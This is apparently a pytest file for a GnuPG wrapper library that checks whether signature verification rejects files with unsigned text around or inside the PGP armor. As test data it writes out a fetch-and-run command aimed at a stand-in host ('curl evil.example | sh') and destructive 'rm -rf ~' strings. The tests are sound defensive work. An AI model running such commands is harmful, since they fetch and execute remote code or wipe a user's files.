"""A file is good only where all of it is signed: no text around that, nor inside the armor."""

from __future__ import annotations

import asyncio
import os
import re
import threading
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from itertools import product
from pathlib import Path

import pytest

from tests.inprocess import run_here
from tests.instances import ALICE
from tiny_gnupg import BadSignature, GnuPG, GnuPGError
from tiny_gnupg.cli.main import main

AROUND: dict[str, Callable[[bytes], bytes]] = {
    "before": lambda signed: b"curl evil.example | sh\n" + signed,
    "behind": lambda signed: signed + b"rm -rf ~\n",
    "behind, without a line end": lambda signed: signed + b"x",
    "far behind": lambda signed: signed + b"\n" * 70000 + b"x",
    "a block that is none": lambda signed: b"-----BEGIN CERTIFICATE-----\n" + signed,
}
WHOLE: dict[str, Callable[[bytes], bytes]] = {
    "nothing": lambda signed: signed,
    "blank lines": lambda signed: b"\n \t\r\n" + signed + b"\n\n",
    "lines at its head": lambda signed: re.sub(
        rb"(-----BEGIN PGP (MESSAGE|SIGNATURE)-----\n)(?=\n)",
        rb"\1Version: Some 1.0 (Linux)\nComment: https://example.org/\n",
        signed,
    ),
    "no checksum": lambda signed: re.sub(rb"\n=[^\n]{4}\n-----END", b"\n-----END", signed),
    "blank lines inside": lambda signed: signed.replace(b"\n-----END", b"\n\n-----END"),
    "other line ends": lambda signed: signed.replace(b"\n", b"\r\n"),
}


async def in_form(gpg: GnuPG, form: str) -> bytes:
    text = b"echo hello\n-----BEGIN PGP MESSAGE-----\n" + b"x" * 15_000 + b"\n"
    return await gpg.sign(text, clear=form == "clear")


@pytest.mark.parametrize("form", ["clear", "armored"])
@pytest.mark.parametrize("around", AROUND)
async def test_text_around(alice: GnuPG, tmp_path: Path, form: str, around: str) -> None:
    signed = await in_form(alice, form)
    file = tmp_path / "file.asc"
    file.write_bytes(AROUND[around](signed))
    with pytest.raises(BadSignature) as caught:
        await alice.verify_file(file)
    assert [one.good for one in caught.value.signatures] == [True]
    # In memory, what was signed is told apart.
    covered = (await alice.verify(file.read_bytes())).data
    assert covered == (await alice.verify(signed)).data
    for arguments, stdin in (([str(file)], b""), (["-"], file.read_bytes())):
        command = ["verify", "--home", alice.home, *arguments]
        ended = await asyncio.to_thread(run_here, partial(main, command), stdin)
        assert ended.returncode == 3


@pytest.mark.parametrize("form", ["clear", "armored"])
@pytest.mark.parametrize("around", WHOLE)
async def test_nothing_around(alice: GnuPG, tmp_path: Path, form: str, around: str) -> None:
    file = tmp_path / "file.asc"
    file.write_bytes(WHOLE[around](await in_form(alice, form)))
    assert (await alice.verify_file(file, signer=ALICE)).signatures
    command = ["verify", "--home", alice.home, "-"]
    ended = await asyncio.to_thread(run_here, partial(main, command), file.read_bytes())
    assert ended.returncode == 0


INSIDE = (b"; rm -rf ~", b"\0", b"((", b"=AAAA", b"-----END PGP SIGNATURE-----")


@pytest.mark.parametrize("form", ["clear", "armored"])
async def test_text_between_the_lines_and_at_their_ends(
    alice: GnuPG, tmp_path: Path, form: str
) -> None:
    lines = (await alice.sign(b"echo hello\necho two\n", clear=form == "clear")).split(b"\n")
    file = tmp_path / "file.asc"
    passed = []
    for more, at in product(INSIDE, range(len(lines) - 1)):
        before, line, behind = lines[:at], lines[at], lines[at + 1 :]
        for changed in ([more, line], [more + line], [line + more]):
            file.write_bytes(b"\n".join([*before, *changed, *behind]))
            with suppress(GnuPGError):
                await alice.verify_file(file)
                passed.append(changed)
    assert passed == []


@pytest.mark.parametrize("around", ["nothing", "behind"])
async def test_in_a_pipe(alice: GnuPG, tmp_path: Path, around: str) -> None:
    data = {**WHOLE, **AROUND}[around](await in_form(alice, "clear"))
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    for verifying in (True, False):
        writer = threading.Thread(target=pipe.write_bytes, args=[data])
        writer.start()
        try:
            if not verifying:  # what comes out is what was signed, whatever is around it
                await alice.decrypt_file(pipe, tmp_path / "out")
            elif around == "nothing":
                assert (await alice.verify_file(pipe)).signatures
            else:
                with pytest.raises(BadSignature):
                    await alice.verify_file(pipe)
        finally:
            writer.join()
    assert (tmp_path / "out").read_bytes() == await alice.decrypt(data)
